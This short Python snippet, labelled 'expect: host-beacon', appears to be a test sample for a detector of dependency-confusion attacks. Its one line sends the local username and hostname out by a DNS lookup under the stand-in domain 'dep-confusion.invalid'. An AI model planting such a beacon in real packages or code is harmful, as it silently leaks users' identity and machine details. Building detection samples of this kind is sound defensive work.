# expect: host-beacon
import getpass
import socket

socket.gethostbyname(f"{getpass.getuser()}.{socket.gethostname()}.dep-confusion.invalid")
